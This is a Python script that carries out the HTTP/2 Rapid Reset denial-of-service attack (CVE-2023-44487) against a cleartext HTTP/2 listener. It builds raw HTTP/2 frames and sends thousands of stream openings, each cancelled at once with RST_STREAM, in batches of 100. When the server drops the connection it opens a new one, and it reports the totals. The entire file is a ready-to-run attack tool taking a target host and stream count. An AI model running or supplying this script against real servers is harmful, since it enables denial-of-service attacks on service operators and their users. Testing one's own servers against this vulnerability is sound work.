#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487) against an h2c listener: STREAMS streams, each a HEADERS
(GET, END_STREAM) followed at once by RST_STREAM(CANCEL), written in batches of 100 on one
connection; when the gateway ends the connection (GOAWAY), a new one goes on. Prints the
streams written and the connections it took. Usage: rapid_reset.py HOST:PORT STREAMS"""
import socket
import struct
import sys

host, port = sys.argv[1].rsplit(":", 1)
total = int(sys.argv[2])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
path, authority = b"/", b"t"
block = b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


sent, conns = 0, 0
while sent < total:
    s = socket.create_connection((host, int(port)))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conns += 1
    try:
        s.sendall(PREFACE)
        stream = 1
        while sent < total and stream < 2**31 - 200:
            batch = bytearray()
            for _ in range(min(100, total - sent)):
                batch += frame(1, 0x5, stream, block)
                batch += frame(3, 0, stream, b"\x00\x00\x00\x08")
                stream += 2
            s.sendall(batch)
            sent += min(100, total - sent)
    except OSError:
        pass
    finally:
        s.close()
print(f"streams {sent} connections {conns}")
